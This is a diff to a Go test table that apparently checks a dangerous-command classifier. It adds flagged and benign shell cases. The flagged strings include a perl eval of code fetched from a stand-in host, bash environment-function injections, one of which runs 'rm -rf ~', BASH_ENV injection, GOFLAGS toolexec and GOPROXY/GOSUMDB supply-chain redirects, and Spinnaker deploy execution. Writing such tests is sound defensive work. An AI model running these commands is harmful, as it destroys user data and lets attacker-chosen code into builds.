@@ -78,5 +78,30 @@ func TestThirteenthRoundDangerClasses(t *testing.T) {
 		{"eval download", `perl -MLWP::Simple -e 'eval get("https://x.example.com/run.pl")'`, true},
 		{"eval download", `perl -e 'eval { die "x\n" }; print $@'`, false},
 		{"eval download", `ruby -e 'puts RUBY_VERSION'`, false},
+		// A bash child given a function or a start-up file by inline
+		// code's environment (G15's and G16's open spellings).
+		{"bash env", `python3 -c "import os; os.execve('/bin/bash', ['bash','-c','ls'], {'BASH_FUNC_ls%%': '() { rm -rf ~; }'})"`, true},
+		{"bash env", `python3 -c "import subprocess; subprocess.run(['bash','-c','true'], env={'BASH_ENV': './x.sh'})"`, true},
+		{"bash env", `node -e "require('child_process').execSync('ls', {env: {'BASH_FUNC_ls%%': '() { id; }'}})"`, true},
+		{"bash env", `python3 -c "import os; print(os.environ.get('HOME'))"`, false},
+		// git's server programs take pushes.
+		{"git server", `git-receive-pack .`, true},
+		{"git server", `git-shell -c 'git-receive-pack /srv/x'`, true},
+		{"git server", `git-http-backend`, true},
+		{"git server", `git-receive-pack --help`, false},
+		// Spinnaker's CLI runs and saves deploy pipelines.
+		{"spinnaker", `spin pipeline execute --name deploy --application web`, true},
+		{"spinnaker", `spin pipeline save --file pipeline.json`, true},
+		{"spinnaker", `spin pipeline list --application web`, false},
+		{"spinnaker", `spin pipeline get --name deploy --application web`, false},
+		// Where Go and Bundler take code from, set for every later build.
+		{"go env", `go env -w GOPROXY=https://goproxy.example.com`, true},
+		{"go env", `go env -w GOFLAGS=-toolexec=/tmp/x`, true},
+		{"go env", `go env -w GOSUMDB=off`, true},
+		{"go env", `bundle config set mirror.https://rubygems.org https://gems.example.com`, true},
+		{"go env", `go env -w GOPRIVATE=github.com/acme/*`, false},
+		{"go env", `go env GOPATH`, false},
+		{"go env", `go env -w GOPROXY=direct`, false},
+		{"go env", `bundle config set --local path vendor/bundle`, false},
 	})
 }
